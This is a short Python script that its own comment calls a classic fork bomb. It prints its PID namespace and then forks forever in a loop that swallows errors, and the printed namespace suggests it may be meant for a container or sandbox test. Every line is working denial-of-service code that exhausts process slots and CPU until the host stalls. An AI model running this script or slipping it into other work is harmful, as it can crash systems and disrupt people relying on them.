# Classic fork bomb; every process also spins so nothing finishes on its own.
import os
print(os.readlink("/proc/self/ns/pid"), flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
